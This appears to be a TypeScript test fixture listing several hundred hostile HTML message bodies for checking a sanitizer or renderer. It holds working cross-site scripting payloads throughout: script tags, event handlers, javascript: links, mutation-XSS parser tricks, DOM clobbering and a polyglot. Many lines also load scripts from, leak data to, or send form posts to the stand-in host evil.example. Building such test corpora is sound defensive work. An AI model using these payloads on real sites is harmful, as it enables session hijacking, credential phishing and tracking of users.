/**
 * Message bodies that try to run a script, load something, leave the page or change it: what a
 * careless backend would pass on. `alert`, `confirm`, `prompt`, `print` or `open` is what each would
 * call. A line is a body; the name of a group is the subject of its messages.
 */
const GROUPS: Readonly<Record<string, string>> = {
  Scripts: String.raw`
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=https://evil.example/x.js></script>
<script src="data:text/javascript,alert(1)"></script>
<script type=module>alert(1)</script>
<script type=importmap>{"imports":{"react":"data:text/javascript,alert(1)"}}</script>
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=//evil.example/x.js></script>
<script	>alert(1)</script	>
<<script>alert(1)//<</script>
<script>/*<!--<script>*/alert(1)//--></script>
</p><script>alert(1)</script><p>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
</title></style></textarea></noscript><script>alert(1)</script>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><script xlink:href="data:text/javascript,alert(1)"/></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<math><script>alert(1)</script></math>
<template><script>alert(1)</script></template>
<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>
<noscript><script>alert(1)</script></noscript>
<object><script>alert(1)</script></object>
<script>document.write('<img src=x onerror=alert(1)>')</script>
<script>parent.alert(1)</script>
<script>import('data:text/javascript,alert(1)')</script>
<script nonce=x>alert(1)</script>`,
  Events: String.raw`
<img src=x onerror=alert(1)>
<img src onerror=alert(1)>
<IMG SRC=X ONERROR=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror="alert(1)"
<img src=x onerror=alert&lpar;1&rpar;>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=\u0061lert(1)>
<img src=x onerror="window['al'+'ert'](1)">
<img src=x onerror=eval(atob('YWxlcnQoMSk='))>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=alert(1)>
<image src=x onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<picture><source srcset=x><img onerror=alert(1)></picture>
<img """><img src=x onerror=alert(1)>">
<img src='x'onerror=alert(1)>
<img title="a>b" src=x onerror=alert(1)>
<img alt="<b>" src=x onerror=alert(1)>
<img alt="--><img src=x onerror=alert(1)>">
<img alt="<img src=x onerror=alert(1)>">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><svg onload=alert(1)></svg></svg>
<svg><image href=x onerror=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributename=x>
<svg><animatetransform onbegin=alert(1) attributeName=transform>
<svg><a><rect width=99 height=99 onclick=alert(1) /></a></svg>
<svg><discard onbegin=alert(1)>
<svg><style onload=alert(1)></style></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>go</a>
<html onclick=alert(1)>go
<style onload=alert(1)>a{}</style>
<link rel=stylesheet href=data:text/css,a onload=alert(1)>
<iframe onload=alert(1)></iframe>
<iframe src=about:blank onload=alert(1)>
<object data=x onerror=alert(1)></object>
<object onerror=alert(1) type=image/png data=x></object>
<embed src=x onload=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1) src=x></video>
<audio src=x onerror=alert(1)></audio>
<audio src onloadstart=alert(1)>
<video poster=x onloadstart=alert(1) src=x></video>
<track onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<button autofocus onfocus=alert(1)>go</button>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)><summary>go</summary></details>
<details ontoggle=alert(1)><summary>go</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>go</button></form></dialog>
<div popover id=pop onbeforetoggle=alert(1)>x</div><button popovertarget=pop>go</button>
<button popovertarget=x onclick=alert(1)>go</button>
<p onclick=alert(1)>go</p>
<p onmouseover=alert(1)>go</p>
<p onmouseenter=alert(1)>go</p>
<p onpointerdown=alert(1)>go</p>
<p onpointerrawupdate=alert(1)>go</p>
<p onfocus=alert(1) tabindex=1>go</p>
<p onfocusin=alert(1) tabindex=1>go</p>
<p contenteditable oninput=alert(1)>go</p>
<p oncopy=alert(1) onpaste=alert(1) oncut=alert(1)>go</p>
<p ondragstart=alert(1) draggable=true>go</p>
<p oncontextmenu=alert(1)>go</p>
<p onwheel=alert(1) onscroll=alert(1)>go</p>
<p style="animation:spin 1s" onanimationstart=alert(1)>go</p>
<p style="transition:all 1s" ontransitionend=alert(1)>go</p>
<p style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>go</p>
<p onbeforematch=alert(1) hidden=until-found>go</p>
<p onsecuritypolicyviolation=alert(1) style=x:y>go</p>
<p onselectstart=alert(1)>go</p>
<p onclick	=	alert(1)>go</p>
<p/onclick=alert(1)//>go</p>
<p onclick
=alert(1)>go</p>
<a onclick=alert(1) href=https://a.example>go</a>
<a href=https://a.example onmouseover="alert(1)">go</a>
<b onclick="alert(1)">go</b>
<td onclick=alert(1)>go</td>
<table onclick=alert(1)><tr><td>go</td></tr></table>
<table><tr><td background="javascript:alert(1)" onclick=alert(1)>go</td></tr></table>
<hr onclick=alert(1)>
<br onclick=alert(1)>
<pre onclick=alert(1)>go</pre>
<h1 onclick=alert(1)>go</h1>
<x onclick=alert(1)>go</x>
<x-y onclick=alert(1)>go</x-y>
<p is=x-y onclick=alert(1)>go</p>
<marquee onstart=alert(1)>go</marquee>
<marquee width=1 loop=1 onfinish=alert(1)>go</marquee>
<isindex type=image src=1 onerror=alert(1)>
<bgsound src=x onerror=alert(1)>
<applet code=x onerror=alert(1)></applet>
<frameset onload=alert(1)><frame src=x></frameset>`,
  Addresses: String.raw`
<a href="javascript:alert(1)">go</a>
<a href="JaVaScRiPt:alert(1)">go</a>
<a href=" javascript:alert(1)">go</a>
<a href="&#1;javascript:alert(1)">go</a>
<a href="java&Tab;script:alert(1)">go</a>
<a href="java&NewLine;script:alert(1)">go</a>
<a href="java&#13;script:alert(1)">go</a>
<a href="javascript&colon;alert(1)">go</a>
<a href="&#106;avascript:alert(1)">go</a>
<a href="&#x6A;avascript:alert(1)">go</a>
<a href="&#0000106avascript:alert(1)">go</a>
<a href="javascript://https://a.example/%0aalert(1)">go</a>
<a href="javascript:/*https:*/alert(1)">go</a>
<a href="https:javascript:alert(1)">go</a>
<a href='javascript:"<script>alert(1)</script>"'>go</a>
<a href="javascript:void(0)" onclick=alert(1)>go</a>
<a href="java%73cript:alert(1)">go</a>
<a href="view-source:javascript:alert(1)">go</a>
<a href="jar:javascript:alert(1)!">go</a>
<a href="data:text/html,<script>alert(1)</script>">go</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">go</a>
<a href="DATA:image/svg+xml,<svg onload=alert(1)>">go</a>
<a href="vbscript:msgbox(1)">go</a>
<a href="blob:https://evil.example/1">go</a>
<a href="filesystem:https://evil.example/1">go</a>
<a href="file:///etc/passwd">go</a>
<a href="about:blank">go</a>
<a href="//evil.example">go</a>
<a href="\\evil.example">go</a>
<a href="/\evil.example">go</a>
<a href="http://evil.example">go</a>
<a href="ftp://evil.example">go</a>
<a href="/auth/logout">go</a>
<a href="?redirect=https://evil.example">go</a>
<a href="#x" id=x name=y>go</a>
<a href="ws://evil.example">go</a>
<a href="intent://evil.example#Intent;scheme=https;end">go</a>
<a href="https://evil.example" target=_self rel=opener>go</a>
<a href="https://evil.example" target=parent download=x.exe ping=https://evil.example/ping>go</a>
<a href="https://user:pass@evil.example">go</a>
<a xlink:href="javascript:alert(1)">go</a>
<svg><a xlink:href="javascript:alert(1)"><text y=20>go</text></a></svg>
<svg><a href="javascript:alert(1)"><text y=20>go</text></a></svg>
<svg><a><animate attributeName=href values="javascript:alert(1)" /><text y=20>go</text></a></svg>
<svg><a><set attributeName=href to="javascript:alert(1)" /><text y=20>go</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1)></svg>#x" />
<math href="javascript:alert(1)">go</math>
<math><mtext href="javascript:alert(1)">go</mtext></math>
<math><maction actiontype="statusline#javascript:alert(1)" xlink:href="javascript:alert(1)">go</maction></math>
<form action="javascript:alert(1)"><button>go</button></form>
<form><button formaction="javascript:alert(1)">go</button></form>
<form id=f action="javascript:alert(1)"></form><button form=f>go</button>
<form action=https://evil.example method=post><input name=password><button>go</button></form>
<input type=submit formaction="javascript:alert(1)" form=x>
<isindex action="javascript:alert(1)" type=submit>
<iframe src="javascript:alert(1)"></iframe>
<iframe src="javascript:parent.alert(1)"></iframe>
<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
<iframe src=https://evil.example sandbox="allow-scripts allow-top-navigation"></iframe>
<frame src="javascript:alert(1)">
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.alert(1)'/>">
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>parent.alert(1)</script>"></object>
<object><param name=src value="javascript:alert(1)"></object>
<base href="javascript:alert(1)//"><a href=/x>go</a>
<base href=https://evil.example/><a href=x>go</a><img src=x>
<base target=_top><a href=https://evil.example>go</a>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.example">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta http-equiv=set-cookie content="a=b">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=preload as=image href=https://evil.example/x.gif>
<link rel=prefetch href=https://evil.example/x>
<link rel=dns-prefetch href=//evil.example>
<link rel=modulepreload href=https://evil.example/x.js>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=manifest href=https://evil.example/x>
<portal src=https://evil.example></portal>
<img src="javascript:alert(1)">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img longdesc="javascript:alert(1)" usemap=#m><map name=m><area href="javascript:alert(1)" shape=default></map>
<area href="javascript:alert(1)" shape=default>
<blockquote cite="javascript:alert(1)">go</blockquote>
<table background="javascript:alert(1)"><tr><td>go</td></tr></table>
<body background="javascript:alert(1)">
<bgsound src="javascript:alert(1)">
<video poster="javascript:alert(1)"></video>
<q cite="javascript:alert(1)">go</q>
<ul><li value="javascript:alert(1)">go</li></ul>`,
  Trackers: String.raw`
<img src=https://evil.example/pixel.gif width=1 height=1>
<img src=//evil.example/pixel.gif alt="Our logo">
<img srcset="https://evil.example/a.gif 1x, https://evil.example/b.gif 2x">
<picture><source srcset=https://evil.example/a.webp><img src=https://evil.example/a.gif></picture>
<img src=https://evil.example/lazy.gif loading=lazy>
<video src=https://evil.example/a.mp4 poster=https://evil.example/a.png autoplay></video>
<audio src=https://evil.example/a.mp3 autoplay></audio>
<video><track src=https://evil.example/a.vtt default></video>
<input type=image src=https://evil.example/a.gif>
<object data=https://evil.example/a></object>
<embed src=https://evil.example/a>
<iframe src=https://evil.example/a></iframe>
<table background=https://evil.example/a.gif><tr><td>text</td></tr></table>
<td background=https://evil.example/a.gif>text</td>
<p style="background:url(https://evil.example/a.gif)">text</p>
<p style="list-style-image:url(//evil.example/a.gif)">text</p>
<p style="cursor:url(https://evil.example/a.cur),auto">text</p>
<p style="content:url(https://evil.example/a.gif)">text</p>
<p style="mask:url(https://evil.example/a.svg#m)">text</p>
<p style="background:image-set('https://evil.example/a.gif' 1x)">text</p>
<style>@import 'https://evil.example/x.css';</style>
<style>@font-face{font-family:x;src:url(https://evil.example/f)}p{font-family:x}</style><p>text</p>
<style>p{background:url(https://evil.example/a.gif)}</style><p>text</p>
<style>input[value^=a]{background:url(https://evil.example/a)}</style><input value=abc>
<svg><image href=https://evil.example/a.gif /></svg>
<svg><image xlink:href=https://evil.example/a.gif /></svg>
<svg><use href=https://evil.example/a.svg#x /></svg>
<svg><feImage href=https://evil.example/a.svg /></svg>
<svg><rect fill="url(https://evil.example/a.svg#x)" width=9 height=9 /></svg>
<svg><style>@import url(https://evil.example/x.css);</style></svg>
<body background=https://evil.example/a.gif>
<a href=https://evil.example ping=https://evil.example/ping>text</a>
<link rel=icon href=https://evil.example/favicon.ico>
<img src='https://evil.example/?text=
<img src="https://evil.example/?text=
<form action=https://evil.example><button>text</button><textarea name=text>
<base target="<p>text
<script src=https://evil.example/a.js></script>
<frameset><frame src=https://evil.example></frameset>
<html manifest=https://evil.example/a>`,
  Mutations: String.raw`
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<math></br><style><a title="</style><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><table id="</style><img src=x onerror=alert(1)>">
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mi><table><mi><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg><foreignObject><math><mi><svg><style><a title="</style><img src=x onerror=alert(1)>">
<svg><desc><p><style><a title="</style><img src=x onerror=alert(1)>"></desc></svg>
<svg><title><style><a title="</style><img src=x onerror=alert(1)>"></title></svg>
<svg><desc><math><style><a title="</style><img src=x onerror=alert(1)>">
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<svg><style>/*<![CDATA[*/</style><img src=x onerror=alert(1)>/*]]>*/
<svg><a><![CDATA[<img src=x onerror=alert(1)>]]></a></svg>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<style><p title="</style><img src=x onerror=alert(1)>">
<script><p title="</script><img src=x onerror=alert(1)>">
<select><style></select><img src=x onerror=alert(1)></style>
<select><template><style></select><img src=x onerror=alert(1)>
<select><iframe></select><img src=x onerror=alert(1)></iframe>
<select><option><style></option></select><img src=x onerror=alert(1)></style></select>
<select><xmp></select><img src=x onerror=alert(1)></xmp>
<template><p title="</template><img src=x onerror=alert(1)>">
<template><template><img src=x onerror=alert(1)></template></template>
<table><style><td title="</style><img src=x onerror=alert(1)>"></table>
<table><svg><style><td title="</style><img src=x onerror=alert(1)>">
<table><colgroup><style></colgroup><img src=x onerror=alert(1)></style></table>
<table><caption><svg><style></caption><img src=x onerror=alert(1)>
<table><tr><td><math><mtext></td></tr></table><img src=x onerror=alert(1)>
<a href=https://a.example><table><a href="javascript:alert(1)">go</a></table></a>
<b><table><script>alert(1)</script></b></table>
<p><svg></p><style><img src=x onerror=alert(1)></style></svg>
<p><math></p><style><img src=x onerror=alert(1)></style></math>
<ul><svg></ul><style><img src=x onerror=alert(1)></style></svg>
<h1><svg></h1><style><img src=x onerror=alert(1)></style></svg>
<svg><font color=x><style><img src=x onerror=alert(1)></style></font></svg>
<svg><font><style><img src=x onerror=alert(1)></style></font></svg>
<math><font face=x><style><a title="</style><img src=x onerror=alert(1)>">
<svg><b><style><a title="</style><img src=x onerror=alert(1)>">
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>-->
<!-- ><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<!doctype html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;
<!DOCTYPE x "<img src=x onerror=alert(1)>">
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?xml-stylesheet href="javascript:alert(1)"?>
<?<img src=x onerror=alert(1)>
<!<img src=x onerror=alert(1)>
</<img src=x onerror=alert(1)>
</ x><img src=x onerror=alert(1)>
<%<img src=x onerror=alert(1)>%>
<comment><img src=x onerror=alert(1)></comment>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<pre>&lt;img src=x onerror=alert(1)&gt;</pre>
<xmp>&lt;img src=x onerror=alert(1)&gt;</xmp>
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
<p title="&lt;img src=x onerror=alert(1)&gt;">text</p>
<p title="&quot;><img src=x onerror=alert(1)>">text</p>
<p title='"><img src=x onerror=alert(1)>'>text</p>
<p title="</p><img src=x onerror=alert(1)>">text</p>
<p title="</style><img src=x onerror=alert(1)>">text</p>
<p title="--><img src=x onerror=alert(1)>">text</p>
<a title="]]><img src=x onerror=alert(1)>" href=https://a.example>text</a>
<a href="https://a.example/&quot;><img src=x onerror=alert(1)>">text</a>
<a href="https://a.example/'onclick='alert(1)">text</a>
<a href='https://a.example/"onclick="alert(1)'>text</a>
<a href=https://a.example/ onclick=alert(1)>text</a>
<p title=x/onclick=alert(1)>text</p>
<p "onclick=alert(1)>text</p>
<p x"y='onclick=alert(1)>text</p>
<p =onclick=alert(1)>text</p>
<p a=b'onclick=alert(1)//'>text</p>
<div contenteditable><img src=x onerror=alert(1)></div>
<div><embed/src=x><style></div><img src=x onerror=alert(1)></style>
<body><body onload=alert(1)><html onclick=alert(1)>
<head><base href=https://evil.example></head><a href=x>go</a>
<svg><svg><svg><svg><style><img src=x onerror=alert(1)>
<details><summary><svg><style></summary></details><img src=x onerror=alert(1)>
<selectedcontent><img src=x onerror=alert(1)></selectedcontent>
<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)></option></select>
<object><svg><style></object><img src=x onerror=alert(1)>
<marquee><svg><style></marquee><img src=x onerror=alert(1)>
<applet><math><mi></applet><style><img src=x onerror=alert(1)></style>
<dialog><svg><style></dialog><img src=x onerror=alert(1)>
<ruby><rt><svg><style></ruby><img src=x onerror=alert(1)>
<nobr><nobr><svg><style></nobr><img src=x onerror=alert(1)>
<image><svg><style><a title="</style><img src=x onerror=alert(1)>">
<frameset></frameset><img src=x onerror=alert(1)>
<svg><script>0<!--<script>alert(1)</script>--></svg>
<math><mtext><script><!--</script><img src=x onerror=alert(1)>--></script>
{{constructor.constructor('alert(1)')()}}
<p>{{7*7}}</p><p v-html="'<img src=x onerror=alert(1)>'" ng-app x-data x-init=alert(1)></p>
javascript:alert(1)
jaVasCript:/*-/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert(1)//>`,
  Clobbering: String.raw`
<form name=body></form>
<form id=x><input name=attributes><input name=nodeName><input name=parentNode></form>
<form id=x><input name=textContent><input id=childNodes></form>
<form><input name=firstChild><img src=x onerror=alert(1)></form>
<form><input name=removeChild><input name=hasChildNodes><p onclick=alert(1)>go</p></form>
<form onsubmit=alert(1)><input name=submit><button>go</button></form>
<img name=currentScript src=x>
<img name=getElementById>
<img id=implementation name=createElement>
<a id=location href=https://evil.example>go</a>
<a id=config><a id=config name=api href=https://evil.example>
<iframe name=config srcdoc="<a id=api href=https://evil.example>"></iframe>
<object name=document></object><embed name=all>
<form name=documentElement><input name=children></form>
<p id=root>text</p>
<p id=__proto__ name=constructor>text</p>
<p class="chakra-portal visible fixed" id=app>text</p>
<p name=cookie id=cookie>text</p>
<a name=addEventListener id=querySelector href=https://a.example>go</a>
<html id=documentElement><body id=body>
<input form=login name=username value=x>
<label for=password>Type here</label>
<output form=login name=x>text</output>
<p slot=x part=y exportparts=z itemid=1>text</p>`,
  Overlays: String.raw`
<p style="position:fixed;inset:0;z-index:99999;background:white">Log in again</p>
<div style="position:absolute;top:-500px">text</div>
<a href=https://evil.example style="position:fixed;inset:0">.</a>
<div style="transform:scale(100)">text</div>
<div style="margin-top:-9999px">text</div>
<div style="width:99999px;height:99999px">text</div>
<div style="font-size:9999px">text</div>
<style>*{display:none!important}</style><p>text</p>
<style>body{visibility:hidden}</style><p>text</p>
<style>@keyframes x{}p{animation:x 1s}</style><p onanimationend=alert(1)>text</p>
<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">text</p>
<p style="width:expression(alert(1))">text</p>
<p style="color:red;/*</style><img src=x onerror=alert(1)>*/">text</p>
<p style="background:url('javascript:alert(1)')">text</p>
<p style='x:\27;background:url(//evil.example)'>text</p>
<p class=fixed hidden inert tabindex=1 accesskey=x contenteditable draggable=true>text</p>
<p dir=rtl lang=xx translate=no spellcheck=true>text</p>
<p role=alert aria-live=assertive aria-hidden=true aria-label=x>text</p>
<p data-portal data-autofocus data-loading data-table data-leaving>text</p>
<div role=dialog aria-modal=true><h1>Session expired</h1><input type=password></div>
<dialog open style="position:fixed;inset:0">text</dialog>
<div popover=auto id=x style="inset:0">text</div>
<marquee>text</marquee><blink>text</blink>
<font size=7 color=red face=x>text</font>
<center><big>text</big></center>
<table width=99999 height=99999 border=99 cellpadding=999><tr><td nowrap width=99999>text</td></tr></table>
<table><tr><td colspan=99999 rowspan=99999>text</td></tr></table>
<td rowspan=-1 colspan=1e9>text</td>
<hr width=99999 size=9999 color=red>
<pre width=9999>text</pre>
<ol start=-99999999 type=x reversed><li value=99999999>text</li></ol>
<fieldset><legend>Password</legend><input type=password autocomplete=current-password></fieldset>
<canvas width=32767 height=32767></canvas>
<progress></progress><meter></meter>
<video controls width=9999></video>
<map name=x><area shape=rect coords=0,0,9999,9999 href=https://evil.example></map>
<svg width=9999 height=9999 style="position:fixed;inset:0"><rect width=9999 height=9999 /></svg>
<math style="position:fixed;inset:0"><mtext>text</mtext></math>`,
};

/** Bodies that no line of text can hold. */
const WITH_CONTROLS: readonly string[] = [
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x on\u0000error=alert(1)>',
  '<img\u0000src=x onerror=alert(1)>',
  '<img\u000bsrc=x onerror=alert(1)>',
  '<img\u000csrc=x onerror=alert(1)>',
  '<img\u00a0src=x onerror=alert(1)>',
  '<img\u2028src=x\u2028onerror=alert(1)>',
  '<img src=x onerror\u3000=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img src=x onerror=`alert(1)`>',
  '<img src=x onerror=alert`1`>',
  '<a href="java\u0000script:alert(1)">go</a>',
  '<a href="java\nscript:alert(1)">go</a>',
  '<a href="java\tscript:alert(1)">go</a>',
  '<a href="\u0001javascript:alert(1)">go</a>',
  '<a href="\u00a0javascript:alert(1)">go</a>',
  '<a href="\ufeffjavascript:alert(1)">go</a>',
  '<a href="\u2028javascript:alert(1)">go</a>',
  '<a href="java\u00adscript:alert(1)">go</a>',
  '<a href="javascript\uff1aalert(1)">go</a>',
  '<a href="\uff4aavascript:alert(1)">go</a>',
  '<a href="jav\u200bascript:alert(1)">go</a>',
  '<a href="https:\u0000javascript:alert(1)">go</a>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u02c2img src=x onerror=alert(1)\u02c3',
  '<\u0130mg src=x onerror=alert(1)>',
  '<\u017fcript>alert(1)</\u017fcript>',
  '<\u017fvg onload=alert(1)>',
  '<p title="\ud800">\udc00 a half of a pair</p>',
  '<p>\u202egnp.exe \u2066 and \u2069 \u200f</p>',
  '<p>\u0000\u0001\u0008\u001b[31m\u007f\u0080\ufffe\uffff</p>',
  '\ufeff<script>alert(1)</script>',
  '<script>alert(1)\u2028</script>',
  '<p>Z\u0351\u036b\u0343\u036a\u0302a\u0315\u0334\u0331l\u0358\u0337g\u0334\u0321o</p>',
  '<svg\r\nonload=alert(1)>',
  '<svg\n\n\n/\n\nonload\n=\nalert(1)\n>',
];

export type HostileBody = { readonly group: string; readonly html: string };

export const hostileBodies: readonly HostileBody[] = [
  ...Object.entries(GROUPS).flatMap(([group, lines]) =>
    lines
      .trim()
      .split('\n')
      .map((html) => ({ group, html })),
  ),
  ...WITH_CONTROLS.map((html) => ({ group: 'Controls', html })),
];
